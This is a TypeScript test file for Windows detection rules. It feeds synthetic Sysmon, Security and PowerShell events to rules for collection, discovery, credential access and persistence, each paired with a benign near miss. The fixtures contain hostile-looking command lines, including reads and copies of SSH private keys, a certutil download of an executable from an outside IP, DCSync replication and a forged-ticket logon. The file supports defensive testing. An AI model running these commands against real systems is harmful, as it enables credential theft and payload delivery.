// Built-in rules written from a public catalogue read as a list of attack shapes (Elastic's Windows building-block rules,
// the lower-fidelity signals of collection, discovery and dual-use executions, and the hunting queries that have a
// concrete event shape): each rule fires on the event it is written for, as Windows, Sysmon or PowerShell writes it, with
// its level and a tactic of what the event shows, and a benign near miss of the same event type does not fire it.
import { describe, expect, it } from 'vitest';
import type { JsonRecord } from '../event.js';
import { baseName, builtinHits, CMD, describeCatalogue, EXPL, file, load, OFFICE, PS, S32, script, sysmon, TMP, USER, win, type CatalogueCase, type Ev } from './builtin.fixture.js';

const sec = (eventId: number, data: JsonRecord): Ev => win('Security', 'Microsoft-Windows-Security-Auditing', eventId, data, 'DC01');

const PUB = 'C:\\Users\\Public\\';
const DL = 'C:\\Users\\bob\\Downloads\\';
const OUTLOOK = `${OFFICE}OUTLOOK.EXE`;
const NI = 'C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.IO.Compression\\0f1e2d\\System.IO.Compression.ni.dll';
const ZONE3 = '[ZoneTransfer]  ZoneId=3  ReferrerUrl=https://mail.example.net/  HostUrl=https://files.example.net/a';
// This file's own makers: Security events on DC01, proc at Medium integrity with the parent's command line, stream
// as Chrome writes a mark of the web, module and classic PowerShell logging by command and parameters.
const proc = (image: string, cmd: string, parent = CMD, extra: JsonRecord = {}): Ev =>
  sysmon(1, { Image: image, OriginalFileName: baseName(image), CommandLine: cmd, ParentImage: parent, ParentCommandLine: parent, User: USER, IntegrityLevel: 'Medium', ...extra });
const created = (image: string, cmd: string, parent = CMD): Ev =>
  sec(4688, { SubjectUserSid: 'S-1-5-21-1-2-3-1104', SubjectUserName: 'bob', SubjectDomainName: 'CORP', SubjectLogonId: '0x3a1f2', NewProcessId: '0x1a2c', NewProcessName: image, TokenElevationType: '%%1938', ProcessId: '0x1234', CommandLine: cmd, ParentProcessName: parent, MandatoryLabel: 'S-1-16-8192' });
const stream = (target: string, contents = ZONE3): Ev => sysmon(15, { Image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', TargetFilename: `${target}:Zone.Identifier`, Contents: contents, User: USER });
const module = (command: string, parameters: string): Ev =>
  win('Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4103, { ContextInfo: 'Host Application = powershell.exe', Payload: `CommandInvocation(${command}): "${command}"\n${parameters}` });
const classic = (commandLine: string, command: string): Ev =>
  win('Windows PowerShell', 'PowerShell', 800, { Data: { '#text': [commandLine, `\tHostApplication=powershell.exe\r\n\tCommandLine=${commandLine}\r\n`, `CommandInvocation(${command}): "${command}"`] } });
const ds4662 = (mask: string): Ev =>
  sec(4662, { SubjectUserSid: 'S-1-5-21-1-2-3-1104', SubjectUserName: 'bob', SubjectDomainName: 'CORP', SubjectLogonId: '0x3a1f2', ObjectServer: 'DS', ObjectType: '%{19195a5b-6da0-11d0-afd3-00c04fd930c9}', ObjectName: '%{8f1b0a2d-1111-2222-3333-444455556666}', OperationType: 'Object Access', HandleId: '0x0', AccessList: mask === '0x40000' ? '%%1539' : '%%7684', AccessMask: mask, Properties: '{19195a5b-6da0-11d0-afd3-00c04fd930c9}', AdditionalInfo: '-', AdditionalInfo2: '' });
/** A Kerberos network logon of the domain's Administrator, its account domain written as given. */
const networkLogon = (domain: string): Ev =>
  sec(4624, { SubjectUserSid: 'S-1-0-0', SubjectUserName: '-', SubjectDomainName: '-', SubjectLogonId: '0x0', TargetUserSid: 'S-1-5-21-1-2-3-500', TargetUserName: 'Administrator', TargetDomainName: domain, TargetLogonId: '0x5a1b2c', LogonType: '3', LogonProcessName: 'Kerberos', AuthenticationPackageName: 'Kerberos', WorkstationName: '-', IpAddress: '10.0.0.66', IpPort: '50123' });
/** A replication right exercised on the domain object (4662, control access), by the account named. */
const replication = (account: string, right: string): Ev =>
  sec(4662, { SubjectUserSid: 'S-1-5-21-1-2-3-1104', SubjectUserName: account, SubjectDomainName: 'CORP', SubjectLogonId: '0x3a1f2', ObjectServer: 'DS', ObjectType: '%{19195a5b-6da0-11d0-afd3-00c04fd930c9}', ObjectName: '%{8f1b0a2d-1111-2222-3333-444455556666}', OperationType: 'Object Access', HandleId: '0x0', AccessList: '%%7688', AccessMask: '0x100', Properties: `%%7688 {${right}} {19195a5b-6da0-11d0-afd3-00c04fd930c9}`, AdditionalInfo: '-', AdditionalInfo2: '' });
const share = (id: 5140 | 5145, name: string, port: string, ip = '10.0.0.66'): Ev =>
  sec(id, { SubjectUserSid: 'S-1-5-21-1-2-3-500', SubjectUserName: 'admin', SubjectDomainName: 'CORP', SubjectLogonId: '0x8a1b2', ObjectType: 'File', IpAddress: ip, IpPort: port, ShareName: name, ShareLocalPath: name.endsWith('ADMIN$') ? '\\??\\C:\\Windows' : '\\??\\C:\\', RelativeTargetName: '\\', AccessMask: '0x1', AccessList: '%%4416' });
const TRANSPORT = "Install-TransportAgent -Name 'Sync Agent' -TransportAgentFactory Corp.Sync.Factory -AssemblyPath C:\\ProgramData\\agent.dll";

/** [rule title, level, a tactic it carries, the event it is written for, a benign near miss]. */
const cases: CatalogueCase[] = [
  ['DotNET Compression Library Loaded By A Program In A User Or Temporary Folder', 'low', 'collection',
    load(`${PUB}collect.exe`, NI), load('C:\\Users\\bob\\AppData\\Local\\Programs\\Notes\\notes.exe', NI)],
  ['File Written In The Root Of The Recycle Bin', 'medium', 'collection',
    file('C:\\$RECYCLE.BIN\\loot.zip', `${PUB}collect.exe`), file('C:\\$Recycle.Bin\\S-1-5-21-1-2-3-1104\\$RA1B2C3.docx', EXPL)],
  ['Script Block Compresses Data With The DotNET Compression Classes (4104)', 'low', 'collection',
    script('$o = New-Object IO.MemoryStream; $g = New-Object IO.Compression.GZipStream($o, [IO.Compression.CompressionMode]::Compress); $g.Write($b, 0, $b.Length)'),
    script('$g = New-Object IO.Compression.GZipStream($i, [IO.Compression.CompressionMode]::Decompress); $g.CopyTo($o)')],
  ['Private Key File Read, Copied Or Packed By A Shell Or Copy Tool', 'low', 'credential-access',
    proc(CMD, 'cmd.exe /c type C:\\Users\\bob\\.ssh\\id_rsa'), proc(`${S32}curl.exe`, 'curl.exe --cacert C:\\certs\\ca.pem https://intranet.corp.example/')],
  ['Private Key File Read, Copied Or Packed By A Shell Or Copy Tool', 'low', 'credential-access',
    proc(`${S32}xcopy.exe`, 'xcopy C:\\inetpub\\certs\\server-key.pem C:\\Users\\Public\\k.pem'), proc(`${S32}OpenSSH\\ssh.exe`, 'ssh.exe -i C:\\Users\\bob\\.ssh\\id_rsa admin@10.0.0.40')],
  ['Files Concatenated Into One With copy /b', 'low', 'stealth',
    proc(CMD, 'cmd.exe /c copy /b C:\\Users\\Public\\p1.jpg + C:\\Users\\Public\\p2.jpg C:\\Users\\Public\\a.exe'), proc(CMD, 'cmd.exe /c copy /b C:\\inetpub\\web.config +,,')],
  ['Installer, Troubleshooter, Search Or Theme Handler File Downloaded From The Internet (Sysmon 15)', 'low', 'execution',
    stream(`${DL}update.appinstaller`), stream(`${DL}invoice.pdf`)],
  ['Installer, Troubleshooter, Search Or Theme Handler File Downloaded From The Internet (Sysmon 15)', 'low', 'initial-access',
    stream(`${DL}invoice.search-ms`), stream(`${DL}invoice.search-ms`, '[ZoneTransfer]  ZoneId=1')],
  ['File Ownership Taken Or System And Hidden Attributes Removed', 'low', 'defense-impairment',
    proc(`${S32}takeown.exe`, 'takeown /F C:\\Windows\\System32\\drivers\\etc\\hosts'), proc(`${S32}attrib.exe`, 'attrib +r C:\\Users\\bob\\Documents\\report.docx')],
  ['File Ownership Taken Or System And Hidden Attributes Removed', 'low', 'defense-impairment',
    proc(`${S32}attrib.exe`, 'attrib -s -h C:\\ProgramData\\tools'), proc(`${S32}attrib.exe`, 'attrib -r C:\\Users\\bob\\Documents\\report.docx')],
  ['Browsing History Cleared Through The Internet Options Control Panel', 'informational', 'stealth',
    proc(`${S32}rundll32.exe`, 'rundll32.exe InetCpl.cpl,ClearMyTracksByProcess 255'), proc(`${S32}rundll32.exe`, 'rundll32.exe shell32.dll,Control_RunDLL inetcpl.cpl')],
  ['Program Started By The Program Compatibility Assistant Or forfiles', 'low', 'stealth',
    proc(`${PUB}a.exe`, `${PUB}a.exe`, `${S32}pcalua.exe`), proc(`${PUB}a.exe`, `${PUB}a.exe`, EXPL)],
  ['Program Started By The Program Compatibility Assistant Or forfiles', 'low', 'stealth',
    proc(CMD, 'cmd /c C:\\Users\\Public\\a.exe', `${S32}forfiles.exe`), proc(`${S32}conhost.exe`, 'conhost.exe 0xffffffff -ForceV1', `${S32}forfiles.exe`)],
  ['Browser Or Browser Updater Name Run From A Writable Or System Folder', 'medium', 'stealth',
    proc(`${PUB}chrome.exe`, `${PUB}chrome.exe --no-sandbox`, EXPL), proc(`${TMP}EU1A2B.tmp\\MicrosoftEdgeUpdate.exe`, `${TMP}EU1A2B.tmp\\MicrosoftEdgeUpdate.exe /update`, `${TMP}MicrosoftEdgeSetup.exe`)],
  ['Outlook Starts A Program From Its Attachment Cache Or A User Folder', 'medium', 'execution',
    proc('C:\\Users\\bob\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\AB12CD34\\invoice.exe', 'invoice.exe', OUTLOOK),
    proc(`${OFFICE}WINWORD.EXE`, `"${OFFICE}WINWORD.EXE" /n report.docx`, OUTLOOK)],
  ['Windows Installer Started Without Arguments By A Program Other Than Explorer', 'medium', 'stealth',
    proc(`${S32}msiexec.exe`, 'C:\\Windows\\System32\\msiexec.exe', `${PUB}loader.exe`), proc(`${S32}msiexec.exe`, `msiexec.exe /i ${DL}setup.msi`, `${PUB}loader.exe`)],
  ['BITS Client Library Loaded By A Program In A User Or Temporary Folder', 'low', 'persistence',
    load(`${TMP}upd.exe`, `${S32}BitsProxy.dll`), load('C:\\Users\\bob\\AppData\\Local\\Google\\Update\\GoogleUpdate.exe', `${S32}BitsProxy.dll`)],
  ['Unknown Program Started From The WMI (wbem) Folder', 'medium', 'stealth',
    proc(`${S32}wbem\\svc.exe`, `${S32}wbem\\svc.exe`, `${S32}services.exe`), proc(`${S32}wbem\\WmiApSrv.exe`, `${S32}wbem\\WmiApSrv.exe`, `${S32}services.exe`)],
  ['Permissions Of A Directory Object Opened For Change (WRITE_DAC, 4662)', 'low', 'defense-impairment',
    ds4662('0x40000'), ds4662('0x10')],
  ['Logon Whose Account Domain Is A Lower-Case DNS Name (Forged Kerberos Ticket)', 'medium', 'credential-access',
    networkLogon('lab.internal'), networkLogon('LAB')],
  ['Logon Whose Account Domain Is A Lower-Case DNS Name (Forged Kerberos Ticket)', 'medium', 'lateral-movement',
    networkLogon('corp.example'), networkLogon('CORP.EXAMPLE')],
  ['Directory Secrets Replicated By A User Account (DCSync)', 'high', 'credential-access',
    replication('bob', '1131f6ad-9c07-11d1-f79f-00c04fc2dcd2'), replication('DC02$', '1131f6ad-9c07-11d1-f79f-00c04fc2dcd2')],
  ['Sysinternals LogonSessions, PsList, PsInfo Or PsFile Run', 'low', 'discovery',
    proc(`${PUB}logonsessions64.exe`, 'logonsessions64.exe -p -accepteula'), proc(`${PUB}procexp64.exe`, 'procexp64.exe', EXPL)],
  ['Sysinternals LogonSessions, PsList, PsInfo Or PsFile Run', 'low', 'discovery',
    proc('C:\\Tools\\ps.exe', 'ps.exe \\\\srv02 -accepteula', CMD, { OriginalFileName: 'pslist.exe' }), proc('C:\\Tools\\ps.exe', 'ps.exe', CMD, { OriginalFileName: 'procdump' })],
  ['Directory Group Members Or Memberships Listed With dsget', 'low', 'discovery',
    proc(`${S32}dsget.exe`, 'dsget group "CN=Domain Admins,CN=Users,DC=corp,DC=example" -members'), proc(`${S32}dsget.exe`, 'dsget user "CN=bob,CN=Users,DC=corp,DC=example" -display')],
  ['Process List Read With qprocess Or PowerShell On The Command Line', 'informational', 'discovery',
    proc(PS, 'powershell.exe -c "Get-Process | select name,id,path"', EXPL), proc(PS, 'powershell.exe -c Get-Date', EXPL)],
  ['Time Zone Read With tzutil', 'informational', 'discovery',
    proc(`${S32}tzutil.exe`, 'tzutil /g'), proc(`${S32}tzutil.exe`, 'tzutil /s "UTC"')],
  ['Script Block Lists A Local Group Through ADSI Or Reads The Domain Password Policy (4104)', 'low', 'discovery',
    script('$g = [ADSI]"WinNT://./Administrators,group"; $g.Invoke("Members")'), script('$u = [ADSI]"WinNT://./bob,user"; $u.FullName')],
  ['Script Block Lists A Local Group Through ADSI Or Reads The Domain Password Policy (4104)', 'low', 'discovery',
    script('$d = [ADSI]"LDAP://$(([ADSI]"LDAP://RootDSE").defaultNamingContext)"; $d.minPwdLength; $d.lockoutThreshold'),
    script('$s = New-Object System.DirectoryServices.DirectorySearcher("(samAccountName=bob)"); $s.FindOne().Properties.mail')],
  ['Settings Shortcut (.settingcontent-ms) Written Outside The Settings App', 'medium', 'initial-access',
    file(`${DL}fix.settingcontent-ms`, 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'),
    file('C:\\Users\\bob\\AppData\\Local\\Packages\\windows.immersivecontrolpanel_cw5n1h2txyewy\\LocalState\\Indexed\\Settings\\en-US\\AAA_Display.settingcontent-ms', `${S32}SystemSettingsAdminFlows.exe`)],
  ['WMI Tester (wbemtest) Started', 'low', 'execution',
    proc(`${S32}wbem\\wbemtest.exe`, 'wbemtest.exe', EXPL), proc(`${S32}mmc.exe`, '"C:\\Windows\\system32\\mmc.exe" wmimgmt.msc', EXPL)],
  ['SQL Server Service Account Runs A Shell, Script Host Or Download Tool', 'medium', 'persistence',
    proc(PS, 'powershell.exe -nop -c whoami', CMD, { User: 'NT Service\\MSSQLSERVER' }), proc(PS, 'powershell.exe -nop -c whoami', CMD)],
  ['SQL Server Service Account Runs A Shell, Script Host Or Download Tool', 'medium', 'initial-access',
    proc(`${S32}certutil.exe`, 'certutil -urlcache -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe', 'C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe', { User: 'NT Service\\MSSQL$REPORTS' }),
    proc('C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\SqlDumper.exe', 'SqlDumper.exe 4120 0 0x0120', 'C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe', { User: 'NT Service\\MSSQLSERVER' })],
  ['Exchange Transport Agent Installed Or Enabled From A Script Block (4104)', 'medium', 'persistence',
    script(TRANSPORT), script("[CmdletBinding()] param() begin { $wrappedCmd = $ExecutionContext.InvokeCommand.GetCommand('Install-TransportAgent', 'Function'); $steppablePipeline = $scriptCmd.GetSteppablePipeline() } <# .ForwardHelpTargetName Install-TransportAgent #>")],
  ['Exchange Transport Agent Installed Or Enabled From PowerShell (module logging 4103)', 'medium', 'persistence',
    module('Install-TransportAgent', 'ParameterBinding(Install-TransportAgent): name="Name"; value="Sync Agent"'), module('Get-TransportAgent', 'ParameterBinding(Get-TransportAgent): name="Identity"; value="Sync Agent"')],
  ['Exchange Transport Agent Installed Or Enabled From PowerShell (classic pipeline 800)', 'medium', 'persistence',
    classic(TRANSPORT, 'Install-TransportAgent'), classic('Get-TransportAgent', 'Get-TransportAgent')],
  ['Two Administrative Shares Opened From One Remote Session', 'low', 'lateral-movement',
    [share(5145, '\\\\*\\ADMIN$', '50411'), share(5145, '\\\\*\\C$', '50411')], [share(5145, '\\\\*\\ADMIN$', '50412'), share(5145, '\\\\*\\IPC$', '50412')]],
  ['Two Administrative Shares Opened From One Remote Session', 'low', 'discovery',
    [share(5140, '\\\\*\\C$', '50413'), share(5140, '\\\\*\\ADMIN$', '50413')], [share(5140, '\\\\*\\C$', '50414'), share(5140, '\\\\*\\ADMIN$', '50415')]],
];

describeCatalogue('built-in rules from a catalogue of building-block detections and hunting queries', cases);

describe('built-in rules from a catalogue of building-block detections and hunting queries: Security 4688', () => {
  it('the process-creation rules that need no Sysmon field also read Security 4688', () => {
    const pairs: readonly (readonly [string, Ev])[] = [
      ['Private Key File Read, Copied Or Packed By A Shell Or Copy Tool', created(CMD, 'cmd.exe /c type C:\\Users\\bob\\.ssh\\id_ed25519')],
      ['Files Concatenated Into One With copy /b', created(CMD, 'cmd.exe /c copy /b a.txt + b.txt c.exe')],
      ['Program Started By The Program Compatibility Assistant Or forfiles', created(CMD, 'cmd /c C:\\Users\\Public\\a.exe', `${S32}forfiles.exe`)],
      ['Browser Or Browser Updater Name Run From A Writable Or System Folder', created('C:\\ProgramData\\Google\\GoogleUpdate.exe', 'C:\\ProgramData\\Google\\GoogleUpdate.exe /c', `${S32}svchost.exe`)],
      ['Outlook Starts A Program From Its Attachment Cache Or A User Folder', created(`${TMP}invoice.exe`, `${TMP}invoice.exe`, OUTLOOK)],
      ['Windows Installer Started Without Arguments By A Program Other Than Explorer', created(`${S32}msiexec.exe`, '"C:\\Windows\\System32\\msiexec.exe"', `${PUB}loader.exe`)],
      ['Unknown Program Started From The WMI (wbem) Folder', created(`${S32}wbem\\svc.exe`, `${S32}wbem\\svc.exe`, `${S32}services.exe`)],
    ];
    for (const [title, event] of pairs) expect([title, builtinHits(event).has(title)]).toEqual([title, true]);
  });
});
